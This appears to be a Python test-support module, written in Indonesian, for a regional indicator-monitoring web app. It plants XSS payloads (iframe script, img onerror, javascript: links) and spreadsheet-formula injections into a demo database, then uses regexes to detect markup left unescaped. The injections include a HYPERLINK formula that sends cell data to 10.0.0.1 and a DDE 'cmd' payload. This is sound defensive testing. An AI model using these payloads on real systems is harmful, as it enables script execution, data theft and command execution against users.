"""Muatan serangan (keputusan #19) dan penanamnya di salinan basis data demo.

Setiap teks yang berasal dari pengguna (nama, satuan, definisi, sumber, catatan indikator dan realisasi, catatan
desk, sub kegiatan, perangkat daerah, nama lengkap akun) diisi dengan teks yang, bila sampai ke halaman sebagai
HTML/Markdown/label Plotly, menjalankan skrip (``window.__x``), membuka tautan, memuat gambar dari luar mesin
(10.0.0.1) atau menjadi rumus di lembar kerja.
"""
from __future__ import annotations

import re
from pathlib import Path

from pantau import akun, desk
from pantau.db import buka

#: Skrip di iframe (keputusan #19: penghambat catatan desk), gambar dengan onerror, tautan/gambar Markdown,
#: markup Plotly.
IFRAME = '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>'
GAMBAR = '<img src=x onerror="window.__x=2">'
MARKDOWN = "[klik](javascript:window.__x=3) ![g](http://10.0.0.1/x.png) :red[merah] $x^2$"
PLOTLY = '<a href="http://10.0.0.1/">tautan</a><br><b>tebal</b>'
#: Rumus lembar kerja (OWASP CSV injection).
RUMUS = '=HYPERLINK("http://10.0.0.1/?d="&A1,"klik")'
RUMUS_LAIN = ["@SUM(A1:A2)", "+1+1", "-1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]

NAMA_INDIKATOR = f"Stunting {IFRAME} {GAMBAR}"
SATUAN = f"persen {PLOTLY}"
DEFINISI = f"Definisi {MARKDOWN}"
SUMBER = f"BPS {PLOTLY} {GAMBAR}"
PENGHAMBAT = IFRAME
PENDORONG = f"Dana desa {MARKDOWN}"
TINDAK_LANJUT = f"{GAMBAR}\n# bukan judul\n- bukan daftar"
SUB_KEGIATAN = f"Sub kegiatan {IFRAME}"
PERANGKAT_DAERAH = f"Dinas {GAMBAR} {PLOTLY}"
NAMA_LENGKAP = f"Analis {GAMBAR}"
PROVINSI, KABUPATEN, URUSAN, TAHUN = "65", "65.01", "1.02", 2024


def tanam(path: str | Path) -> dict:
    """Isi salinan basis data demo di ``path`` dengan muatan di atas (indikator urusan ``URUSAN`` provinsi ``PROVINSI``
    dan semua kabupaten/kotanya). Mengembalikan id yang ditanami."""
    con = buka(path)
    try:
        ids = [r[0] for r in con.execute(
            "SELECT id FROM indikator WHERE (daerah_kode = $p OR daerah_kode LIKE $p || '.%') AND urusan_kode = $u "
            "ORDER BY daerah_kode, kode", {"p": PROVINSI, "u": URUSAN}).fetchall()]
        con.execute("UPDATE indikator SET nama = $n || ' ' || kode, satuan = $s, definisi = $d, sumber_data = $sd, "
                    "perangkat_daerah = $pd WHERE list_contains($ids, id)",
                    {"n": NAMA_INDIKATOR, "s": SATUAN, "d": DEFINISI, "sd": SUMBER, "pd": PERANGKAT_DAERAH,
                     "ids": ids})
        con.execute("UPDATE realisasi SET sumber = $s, catatan = $c WHERE list_contains($ids, indikator_id)",
                    {"s": SUMBER, "c": RUMUS, "ids": ids})
        con.execute("UPDATE dukungan SET sub_kegiatan_nama = $n, perangkat_daerah = $pd, catatan = $c "
                    "WHERE list_contains($ids, indikator_id)",
                    {"n": SUB_KEGIATAN, "pd": PERANGKAT_DAERAH, "c": RUMUS, "ids": ids})
        con.execute("UPDATE pengguna SET nama_lengkap = $n WHERE nama_pengguna = 'demo.analis'", {"n": NAMA_LENGKAP})
        analis = akun.Pengguna(nama_pengguna="demo.analis", nama_lengkap=NAMA_LENGKAP, peran="analis")
        for daerah in (PROVINSI, KABUPATEN):
            desk.simpan_catatan(con, urusan=URUSAN, daerah=daerah, tahun=TAHUN, pendorong=PENDORONG,
                                penghambat=PENGHAMBAT, tindak_lanjut=TINDAK_LANJUT, versi_dasar=0, pengguna=analis)
        induk = con.execute("SELECT id FROM indikator WHERE daerah_kode = $p AND urusan_kode = $u ORDER BY kode "
                            "LIMIT 1", {"p": PROVINSI, "u": URUSAN}).fetchone()[0]
        kab = con.execute("SELECT id FROM indikator WHERE daerah_kode = $k AND urusan_kode = $u ORDER BY kode "
                          "LIMIT 1", {"k": KABUPATEN, "u": URUSAN}).fetchone()[0]
    finally:
        con.close()
    return {"indikator": ids, "induk": int(induk), "kabupaten": int(kab)}


# -- pemeriksa ------------------------------------------------------------------------------------------------

#: Tag muatan yang hidup (tidak diloloskan) di teks yang ditafsirkan sebagai HTML: unsafe_allow_html, label dan
#: hover Plotly. (Markup yang ditulis kode sendiri, misalnya <b>%{customdata[0]}</b> atau <div class=…>, boleh.)
_TAG = re.compile(r"<\s*(iframe|img|script|svg)\b|<a\s+href|<b>tebal", re.IGNORECASE)
#: Di sumber Markdown: tag, tautan/gambar, arahan :red[…] atau LaTeX dari muatan yang tidak diloloskan.
_MD_HIDUP = re.compile(r"(?<!\\)<\s*(iframe|img|script|a)\b|(?<!\\)\[(klik|g)(?<!\\)\]\(|:red(?<!\\)\[|"
                       r"(?<![\\\u2060])\$x|http://10\.0")


def markup_hidup(teks: str) -> list[str]:
    """Tag muatan yang hidup di teks yang ditafsirkan sebagai HTML (unsafe_allow_html, label Plotly)."""
    return [m.group(0) for m in _TAG.finditer(teks or "")]


def markdown_hidup(sumber: str) -> list[str]:
    """Bagian muatan yang masih bermakna di sumber Markdown (tag, tautan/gambar, arahan, LaTeX, alamat)."""
    return [m.group(0) for m in _MD_HIDUP.finditer(sumber or "")]
